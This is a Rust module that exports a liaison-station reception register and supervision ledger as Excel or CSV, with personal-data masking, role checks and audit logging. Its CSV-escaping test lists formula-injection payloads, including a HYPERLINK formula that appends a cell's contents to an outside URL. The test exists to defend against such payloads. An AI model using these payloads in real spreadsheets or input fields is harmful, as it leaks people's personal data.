//! The Excel and CSV exports, nested under `/api/v1`, behind the [`Auth`] extractor:
//!
//! - `GET /exports/register?format=xlsx|csv&from=&to=[&station=|&region=][&personal=true]`: the
//!   reception register (接待登记簿) of [`crate::figures`]'s `/register`, same scope and period
//!   rules and refusals (handling units 403).
//! - `GET /exports/ledger?format=xlsx|csv&<the /ledger filters>[&personal=true]`: the
//!   supervision ledger (工作台账) of [`crate::followup`]'s `/ledger`, the same lines in the same
//!   order for the same caller.
//!
//! `format` defaults to `xlsx`; another value is 400 `invalid_format`. The citizen is masked
//! (`张* 138****1234`) unless `personal=true` and the role may see personal data
//! ([`may_unmask_personal_data`]: administrators, office and station staff); `personal=true`
//! from anyone else is 403 `personal_data_not_permitted`, and a `personal` other than
//! `true`/`false` is 400 `invalid_personal`.
//!
//! **The workbook**: the lines on a first sheet (登记簿 / 工作台账) with a title row naming the
//! scope and the period, the header row frozen beneath it with an autofilter, column widths set,
//! days as real Excel dates (`yyyy-mm-dd`), statuses, intake decisions and deadline colours in
//! Chinese words ([`crate::zh`]); a second sheet 「统计」 with the figures of the same scope and
//! period (each [`Figure::ALL`] with its `name_zh`, its value, and its `definition_zh`; counts as
//! numbers, rates as [`Figures::display`] shows them). The ledger's 统计 covers the stations of
//! its `station` filter (or all the caller reads) from its `from` (or its earliest line) to its
//! `to` (or today); a handling unit's ledger has none. The data sheet is written in
//! rust_xlsxwriter's constant-memory mode (rows streamed to a temporary file), so a big export
//! costs its rows once, not twice. **The CSV**: UTF-8 with a byte-order mark (so Excel reads
//! the Chinese), the header row and the lines, days as `YYYY-MM-DD`, no statistics.
//!
//! **Audited.** Every export writes an `audit_log` row (`export_register` / `export_ledger`:
//! who, when, format, filters, whether personal data was included, how many lines) after the
//! file is made and before it is sent; if that write fails the export fails (500) and nothing
//! is sent.
//!
//! The answer is `Content-Disposition: attachment` with an ASCII `filename`
//! (`register-2026-01-01_2026-03-31.xlsx`) and the Chinese one as RFC 5987 `filename*`, and
//! `Cache-Control: no-store`.

use crate::auth::{Auth, now_ms};
use crate::db::audit::AuditEntry;
use crate::error::AppError;
use crate::figures::{
    ReportParams, category_name, citizen_text, given, register_rows, report, resolve,
};
use crate::followup::{LedgerParams, ledger_items, ledger_query, today};
use crate::state::AppState;
use crate::sync::readable_stations;
use crate::zh;
use axum::Router;
use axum::extract::{Query, State};
use axum::http::{HeaderValue, header};
use axum::response::{IntoResponse, Response};
use axum::routing::get;
use liaison_domain::Role;
use liaison_domain::account::{may_read_figures, may_unmask_personal_data};
use liaison_domain::figures::{Figure, Figures, Period, day_of};
use liaison_domain::followup::Date;
use rust_xlsxwriter::{
    Color, ExcelDateTime, Format as CellFormat, FormatAlign, FormatBorder, Workbook,
};
use serde::{Deserialize, Serialize};
use serde_json::json;

pub fn router() -> Router<AppState> {
    Router::new()
        .route("/exports/register", get(export_register))
        .route("/exports/ledger", get(export_ledger))
}

/// The rows an xlsx sheet holds, less the title and header rows.
pub const MAX_XLSX_ROWS: usize = 1_048_576 - 2;

/// A file format of the exports.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ExportFormat {
    Xlsx,
    Csv,
}

impl ExportFormat {
    fn parse(value: &Option<String>) -> Result<Self, AppError> {
        match given(value) {
            None | Some("xlsx") => Ok(ExportFormat::Xlsx),
            Some("csv") => Ok(ExportFormat::Csv),
            Some(_) => Err(AppError::BadRequest {
                code: "invalid_format",
                message: "format must be xlsx or csv",
            }),
        }
    }

    pub fn extension(self) -> &'static str {
        match self {
            ExportFormat::Xlsx => "xlsx",
            ExportFormat::Csv => "csv",
        }
    }

    fn content_type(self) -> &'static str {
        match self {
            ExportFormat::Xlsx => {
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
            }
            ExportFormat::Csv => "text/csv; charset=utf-8",
        }
    }
}

/// Whether personal data is asked for, and allowed.
fn personal(auth: &Auth, value: &Option<String>) -> Result<bool, AppError> {
    let asked = match given(value) {
        None | Some("false") => false,
        Some("true") => true,
        Some(_) => {
            return Err(AppError::BadRequest {
                code: "invalid_personal",
                message: "personal must be true or false",
            });
        }
    };
    if asked && !may_unmask_personal_data(auth.role) {
        return Err(AppError::Refused {
            code: "personal_data_not_permitted",
            message: "This account may not export citizens' personal data",
        });
    }
    Ok(asked)
}

/// One cell of an export.
#[derive(Clone, Debug, PartialEq)]
pub enum Cell {
    Text(String),
    Date(Date),
    Count(u64),
}

impl From<String> for Cell {
    fn from(text: String) -> Self {
        Cell::Text(text)
    }
}

impl From<&str> for Cell {
    fn from(text: &str) -> Self {
        Cell::Text(text.to_owned())
    }
}

impl Cell {
    fn csv_text(&self) -> String {
        match self {
            Cell::Text(text) => csv_safe(text),
            Cell::Date(day) => day.to_string(),
            Cell::Count(n) => n.to_string(),
        }
    }
}

/// A citizen's or deputy's text as a CSV cell that a spreadsheet shows and never runs: a cell
/// starting with `=`, `+`, `-`, `@`, a tab or a carriage return would be read as a formula by
/// Excel (`=HYPERLINK(...)` could send the row's personal data away), so it gets a leading `'`,
/// which Excel shows as text. (The xlsx cells are written as strings and need no such care.)
fn csv_safe(text: &str) -> String {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{text}")
    } else {
        text.to_owned()
    }
}

/// A column: its header and width (in Excel's character units).
pub type Column = (&'static str, f64);

pub const REGISTER_COLUMNS: &[Column] = &[
    ("序号", 6.0),
    ("登记日期", 12.0),
    ("联络站", 26.0),
    ("代表", 10.0),
    ("群众", 24.0),
    ("类别", 14.0),
    ("意见建议", 40.0),
    ("地点", 20.0),
    ("处理方式", 18.0),
    ("现场答复内容", 30.0),
    ("当前状态", 18.0),
];

pub const LEDGER_COLUMNS: &[Column] = &[
    ("序号", 6.0),
    ("登记日期", 12.0),
    ("联络站", 26.0),
    ("代表", 10.0),
    ("群众", 24.0),
    ("类别", 14.0),
    ("意见建议", 40.0),
    ("当前状态", 18.0),
    ("交办单位", 22.0),
    ("办理时限", 12.0),
    ("时限状态", 12.0),
];

/// The headers of the 统计 sheet.
pub const STATISTICS_COLUMNS: &[Column] = &[("指标", 20.0), ("数值", 12.0), ("口径说明", 80.0)];

/// The 统计 sheet: the figures of the export's scope and period.
pub struct Statistics {
    pub title: String,
    pub figures: Figures,
}

/// What goes in one export file.
pub struct Sheet {
    pub name: &'static str,
    pub title: String,
    pub columns: &'static [Column],
}

/// Writes a workbook: the lines on `sheet` (streamed: constant-memory mode), then the 统计 sheet.
pub fn xlsx(
    sheet: &Sheet,
    rows: impl IntoIterator<Item = Vec<Cell>>,
    statistics: Option<&Statistics>,
) -> Result<Vec<u8>, rust_xlsxwriter::XlsxError> {
    let mut workbook = Workbook::new();
    let title = CellFormat::new().set_bold().set_font_size(14);
    let heading = CellFormat::new()
        .set_bold()
        .set_background_color(Color::RGB(0xD9E1F2))
        .set_border(FormatBorder::Thin)
        .set_align(FormatAlign::Center);
    let date = CellFormat::new().set_num_format("yyyy-mm-dd");
    let wrap = CellFormat::new().set_text_wrap();

    let worksheet = workbook.add_worksheet_with_constant_memory()?;
    worksheet.set_name(sheet.name)?;
    let last_column = u16::try_from(sheet.columns.len().saturating_sub(1)).unwrap_or(0);
    for (column, (_, width)) in (0u16..).zip(sheet.columns) {
        worksheet.set_column_width(column, *width)?;
    }
    worksheet.merge_range(0, 0, 0, last_column, &sheet.title, &title)?;
    for (column, (name, _)) in (0u16..).zip(sheet.columns) {
        worksheet.write_string_with_format(1, column, *name, &heading)?;
    }
    let mut row = 2u32;
    for cells in rows {
        for (column, cell) in (0u16..).zip(cells) {
            match cell {
                Cell::Text(text) if text.is_empty() => {}
                Cell::Text(text) => {
                    worksheet.write_string(row, column, text)?;
                }
                Cell::Count(n) => {
                    worksheet.write_number(row, column, n as f64)?;
                }
                Cell::Date(day) => {
                    let (y, m, d) = day.ymd();
                    match (u16::try_from(y), u8::try_from(m), u8::try_from(d)) {
                        // Excel's dates run from 1900 to 9999; a tablet with a wrong clock can
                        // have recorded anything, which is written as text, not refused.
                        (Ok(y), Ok(m), Ok(d)) if (1900..=9999).contains(&y) => {
                            let value = ExcelDateTime::from_ymd(y, m, d)?;
                            worksheet.write_datetime_with_format(row, column, &value, &date)?;
                        }
                        _ => {
                            worksheet.write_string(row, column, day.to_string())?;
                        }
                    }
                }
            }
        }
        row += 1;
    }
    worksheet.set_freeze_panes(2, 0)?;
    worksheet.autofilter(1, 0, row.saturating_sub(1).max(1), last_column)?;

    if let Some(statistics) = statistics {
        let worksheet = workbook.add_worksheet();
        worksheet.set_name("统计")?;
        for (column, (_, width)) in (0u16..).zip(STATISTICS_COLUMNS) {
            worksheet.set_column_width(column, *width)?;
        }
        worksheet.merge_range(0, 0, 0, 2, &statistics.title, &title)?;
        for (column, (name, _)) in (0u16..).zip(STATISTICS_COLUMNS) {
            worksheet.write_string_with_format(1, column, *name, &heading)?;
        }
        for (row, figure) in (2u32..).zip(Figure::ALL) {
            worksheet.write_string(row, 0, figure.name_zh())?;
            if figure.is_rate() {
                worksheet.write_string(row, 1, statistics.figures.display(figure))?;
            } else {
                worksheet.write_number(row, 1, statistics.figures.count(figure) as f64)?;
            }
            worksheet.write_string_with_format(row, 2, figure.definition_zh(), &wrap)?;
        }
        worksheet.set_freeze_panes(2, 0)?;
    }
    workbook.save_to_buffer()
}

/// Writes a CSV file: UTF-8 with a byte-order mark, the header row, the lines.
pub fn csv(
    columns: &[Column],
    rows: impl IntoIterator<Item = Vec<Cell>>,
) -> anyhow::Result<Vec<u8>> {
    let mut writer = csv::Writer::from_writer(b"\xEF\xBB\xBF".to_vec());
    writer.write_record(columns.iter().map(|(name, _)| *name))?;
    for cells in rows {
        writer.write_record(cells.iter().map(Cell::csv_text))?;
    }
    writer
        .into_inner()
        .map_err(|err| anyhow::anyhow!("cannot finish the CSV: {}", err.error()))
}

/// RFC 5987 `value-chars` of a UTF-8 text: attr-chars as they are, the rest percent-encoded.
fn rfc5987(text: &str) -> String {
    let mut out = String::with_capacity(text.len() * 3);
    for byte in text.bytes() {
        let keep = byte.is_ascii_alphanumeric()
            || matches!(
                byte,
                b'!' | b'#' | b'$' | b'&' | b'+' | b'-' | b'.' | b'^' | b'_' | b'`' | b'|' | b'~'
            );
        if keep {
            out.push(char::from(byte));
        } else {
            out.push_str(&format!("%{byte:02X}"));
        }
    }
    out
}

/// A name that is safe in a file name: no path separators or characters Windows refuses.
fn file_part(text: &str) -> String {
    text.chars()
        .map(|c| match c {
            '/' | '\\' | ':' | '*' | '?' | '"' | '<' | '>' | '|' => '_',
            c if c.is_control() => '_',
            c => c,
        })
        .collect()
}

/// The answer carrying an export file.
fn attachment(format: ExportFormat, bytes: Vec<u8>, ascii_name: &str, name: &str) -> Response {
    let disposition = format!(
        "attachment; filename=\"{ascii_name}\"; filename*=UTF-8''{}",
        rfc5987(name)
    );
    let mut response = bytes.into_response();
    let headers = response.headers_mut();
    headers.insert(
        header::CONTENT_TYPE,
        HeaderValue::from_static(format.content_type()),
    );
    if let Ok(value) = HeaderValue::from_str(&disposition) {
        headers.insert(header::CONTENT_DISPOSITION, value);
    }
    headers.insert(header::CACHE_CONTROL, HeaderValue::from_static("no-store"));
    response
}

/// Makes the file off the async threads (a big export is seconds of CPU).
/// `rows` (`count` of them) are made as they are written, on the blocking thread: a big export
/// never holds all its cells at once.
async fn make_file(
    format: ExportFormat,
    sheet: Sheet,
    count: usize,
    rows: impl Iterator<Item = Vec<Cell>> + Send + 'static,
    statistics: Option<Statistics>,
) -> Result<Vec<u8>, AppError> {
    if format == ExportFormat::Xlsx && count > MAX_XLSX_ROWS {
        return Err(AppError::Invalid {
            code: "export_too_large",
            message: "More lines than an Excel sheet holds: narrow the period or export CSV",
        });
    }
    tokio::task::spawn_blocking(move || match format {
        ExportFormat::Xlsx => xlsx(&sheet, rows, statistics.as_ref())
            .map_err(|err| anyhow::anyhow!("cannot write the workbook: {err}")),
        ExportFormat::Csv => csv(sheet.columns, rows),
    })
    .await
    .map_err(|err| anyhow::anyhow!("the export task failed: {err}"))?
    .map_err(AppError::Internal)
}

/// Writes the audit record of an export; the export fails if this fails.
async fn audit_export(
    state: &AppState,
    auth: &Auth,
    action: &str,
    detail: serde_json::Value,
) -> Result<(), AppError> {
    let entry = AuditEntry {
        id: 0,
        at_ms: now_ms(),
        user_id: auth.user_id.clone(),
        username: auth.username.clone(),
        display_name: auth.display_name.clone(),
        action: action.to_owned(),
        detail,
    };
    state.db.write_audit(&entry).await?;
    tracing::info!(
        user = %auth.username,
        action,
        detail = %entry.detail,
        "export audited"
    );
    Ok(())
}

/// The title's note when personal data is included.
fn personal_note(personal: bool) -> &'static str {
    if personal {
        "（含群众个人信息）"
    } else {
        ""
    }
}

fn statistics_title(label: &str, period: &Period, today: Date) -> String {
    format!(
        "统计　{label}　{} 至 {}（超期截至 {}）",
        period.from,
        period.to,
        period.as_of(today)
    )
}

#[derive(Clone, Debug, Default, Deserialize, Serialize)]
struct RegisterExportParams {
    #[serde(default, skip_serializing_if = "Option::is_none")]
    from: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    to: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    station: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    region: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    format: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    personal: Option<String>,
}

/// `GET /api/v1/exports/register`.
async fn export_register(
    State(state): State<AppState>,
    auth: Auth,
    Query(params): Query<RegisterExportParams>,
) -> Result<Response, AppError> {
    if !may_read_figures(auth.role) {
        return Err(AppError::Forbidden);
    }
    let format = ExportFormat::parse(&params.format)?;
    let personal = personal(&auth, &params.personal)?;
    let directory = state.db.directory().await?;
    let report_params = ReportParams {
        from: params.from.clone(),
        to: params.to.clone(),
        station: params.station.clone(),
        region: params.region.clone(),
        by: None,
    };
    let resolved = resolve(&auth, &directory, &report_params)?;
    let period = resolved.period;
    let lines = register_rows(&state, &directory, &resolved.stations, &period, personal).await?;
    let statistics = match format {
        ExportFormat::Xlsx => {
            let report = report(&state, &directory, &resolved.stations, period, None).await?;
            Some(Statistics {
                title: statistics_title(&resolved.label, &period, report.today),
                figures: report.total,
            })
        }
        ExportFormat::Csv => None,
    };
    let count = lines.len();
    let rows = lines
        .into_iter()
        .enumerate()
        .map(move |(i, (line, outcome))| {
            vec![
                Cell::Count(i as u64 + 1),
                Cell::Date(line.collected),
                line.station_name.into(),
                line.deputy_name.into(),
                line.citizen.into(),
                category_name(&directory, &line.category).into(),
                line.summary.into(),
                line.place.into(),
                zh::outcome(&outcome).into(),
                line.on_site_reply.into(),
                zh::status(line.status).into(),
            ]
        });
    let sheet = Sheet {
        name: "登记簿",
        title: format!(
            "接待登记簿　{}　{} 至 {}{}",
            resolved.label,
            period.from,
            period.to,
            personal_note(personal)
        ),
        columns: REGISTER_COLUMNS,
    };
    let bytes = make_file(format, sheet, count, rows, statistics).await?;
    let mut filters = serde_json::to_value(&params).unwrap_or_default();
    if let Some(filters) = filters.as_object_mut() {
        filters.remove("format");
        filters.remove("personal");
    }
    audit_export(
        &state,
        &auth,
        "export_register",
        json!({
            "format": format.extension(),
            "filters": filters,
            "personal": personal,
            "rows": count,
            "stations": resolved.stations.len(),
        }),
    )
    .await?;
    let ext = format.extension();
    Ok(attachment(
        format,
        bytes,
        &format!("register-{}_{}.{ext}", period.from, period.to),
        &format!(
            "接待登记簿_{}_{}至{}.{ext}",
            file_part(&resolved.label),
            period.from,
            period.to
        ),
    ))
}

#[derive(Clone, Debug, Default, Deserialize, Serialize)]
struct LedgerExportParams {
    #[serde(flatten)]
    ledger: LedgerParams,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    format: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    personal: Option<String>,
}

/// The period of a ledger export's 统计 sheet: its `from` (or its earliest line) to its `to`
/// (or today), at most [`Period::MAX_DAYS`] long; `None` when it ends before it starts.
fn ledger_period(
    from: Option<Date>,
    to: Option<Date>,
    earliest: Option<Date>,
    today: Date,
) -> Option<Period> {
    let to = to.unwrap_or(today);
    let from = from.or(earliest).unwrap_or(to);
    let from = from.max(to.add_days(1 - Period::MAX_DAYS));
    Period::new(from, to).ok()
}

/// `GET /api/v1/exports/ledger`.
async fn export_ledger(
    State(state): State<AppState>,
    auth: Auth,
    Query(params): Query<LedgerExportParams>,
) -> Result<Response, AppError> {
    let format = ExportFormat::parse(&params.format)?;
    let personal = personal(&auth, &params.personal)?;
    let query = ledger_query(params.ledger.clone())?;
    let items = ledger_items(&state, &auth, &query).await?;
    let directory = state.db.directory().await?;
    let today = today();
    let label = match (&query.station, auth.role) {
        (_, Role::HandlingUnit) => "交办本单位事项".to_owned(),
        (Some(station), _) => directory
            .station(station)
            .map_or_else(|| station.0.clone(), |s| s.name.clone()),
        (None, _) => "全部联络站".to_owned(),
    };
    let statistics = if format == ExportFormat::Xlsx && may_read_figures(auth.role) {
        let earliest = items.iter().map(|(row, _)| day_of(row.created_at_ms)).min();
        match ledger_period(query.from, query.to, earliest, today) {
            Some(period) => {
                let mut stations = readable_stations(&auth, &directory);
                if let Some(station) = &query.station {
                    stations.retain(|s| s == station);
                }
                let report = report(&state, &directory, &stations, period, None).await?;
                Some(Statistics {
                    title: statistics_title(&label, &period, report.today),
                    figures: report.total,
                })
            }
            None => None,
        }
    } else {
        None
    };
    let count = items.len();
    let rows = items
        .into_iter()
        .enumerate()
        .map(move |(i, (row, replica))| {
            let citizen = replica
                .opinion()
                .map(|o| citizen_text(&o, personal))
                .unwrap_or_default();
            vec![
                Cell::Count(i as u64 + 1),
                Cell::Date(day_of(row.created_at_ms)),
                directory
                    .station(&row.station_id)
                    .map_or_else(|| row.station_id.0.clone(), |s| s.name.clone())
                    .into(),
                directory
                    .deputy(&row.deputy_id)
                    .map_or_else(|| row.deputy_id.0.clone(), |d| d.name.clone())
                    .into(),
                citizen.into(),
                category_name(&directory, &row.category).into(),
                row.summary.into(),
                zh::status(row.status).into(),
                row.unit_name.unwrap_or_default().into(),
                row.due
                    .map_or_else(|| Cell::Text(String::new()), Cell::Date),
                row.colour.map(zh::colour).unwrap_or_default().into(),
            ]
        });
    let range = match (query.from, query.to) {
        (None, None) => String::new(),
        (from, to) => format!(
            "　{} 至 {}",
            from.map_or_else(|| "—".to_owned(), |d| d.to_string()),
            to.map_or_else(|| "—".to_owned(), |d| d.to_string())
        ),
    };
    let sheet = Sheet {
        name: "工作台账",
        title: format!(
            "工作台账　{label}{range}（导出于 {today}）{}",
            personal_note(personal)
        ),
        columns: LEDGER_COLUMNS,
    };
    let bytes = make_file(format, sheet, count, rows, statistics).await?;
    let filters = serde_json::to_value(&params.ledger).unwrap_or_default();
    audit_export(
        &state,
        &auth,
        "export_ledger",
        json!({
            "format": format.extension(),
            "filters": filters,
            "personal": personal,
            "rows": count,
        }),
    )
    .await?;
    let ext = format.extension();
    Ok(attachment(
        format,
        bytes,
        &format!("ledger-{today}.{ext}"),
        &format!("工作台账_{}_{today}.{ext}", file_part(&label)),
    ))
}

/// Used by both exports' tests of the file names.
#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_cells_that_a_spreadsheet_would_run_are_made_text() {
        for formula in [
            "=HYPERLINK(\"http://x/?\"&E2,\"详情\")",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(Cell::Text(formula.into()).csv_text(), format!("'{formula}"));
        }
        assert_eq!(Cell::Text("小区停车难".into()).csv_text(), "小区停车难");
        assert_eq!(Cell::Text("a=b".into()).csv_text(), "a=b");
        assert_eq!(Cell::Count(3).csv_text(), "3");
    }

    #[test]
    fn rfc5987_keeps_attr_chars_and_encodes_the_rest() {
        assert_eq!(rfc5987("a-b_c.xlsx"), "a-b_c.xlsx");
        assert_eq!(rfc5987("台账 1"), "%E5%8F%B0%E8%B4%A6%201");
        assert_eq!(rfc5987("a'b\"c"), "a%27b%22c");
    }

    #[test]
    fn csv_has_a_bom_and_quotes_what_needs_it() {
        let bytes = csv(
            &[("甲", 1.0), ("乙", 1.0)],
            [vec![Cell::from("a,b"), Cell::from("say \"hi\"\nbye")]],
        )
        .unwrap();
        assert!(bytes.starts_with(b"\xEF\xBB\xBF"));
        let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
        assert_eq!(text, "甲,乙\n\"a,b\",\"say \"\"hi\"\"\nbye\"\n");
    }

    #[test]
    fn a_ledger_statistics_period_is_bounded() {
        let d = |s: &str| Date::parse(s).unwrap();
        let today = d("2026-06-30");
        let p = ledger_period(None, None, Some(d("2026-01-05")), today).unwrap();
        assert_eq!((p.from, p.to), (d("2026-01-05"), today));
        let p = ledger_period(None, None, Some(d("1990-01-01")), today).unwrap();
        assert_eq!(p.from.days_until(p.to), Period::MAX_DAYS - 1);
        assert!(ledger_period(Some(d("2026-07-01")), Some(d("2026-06-01")), None, today).is_none());
    }
}
